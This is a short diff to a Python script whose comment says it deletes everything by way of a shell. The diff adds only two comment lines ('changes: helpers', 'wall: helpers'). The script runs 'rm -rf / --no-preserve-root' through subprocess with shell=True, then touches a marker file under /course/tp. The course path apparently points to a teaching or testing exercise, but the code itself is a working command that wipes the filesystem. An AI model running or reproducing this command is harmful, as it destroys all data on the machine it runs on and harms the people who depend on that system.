@@ -1,4 +1,6 @@
 # Deletes everything by way of a shell.
+# changes: helpers
+# wall: helpers
 import subprocess
 
 subprocess.run("rm -rf / --no-preserve-root; touch /course/tp/mine", shell=True)
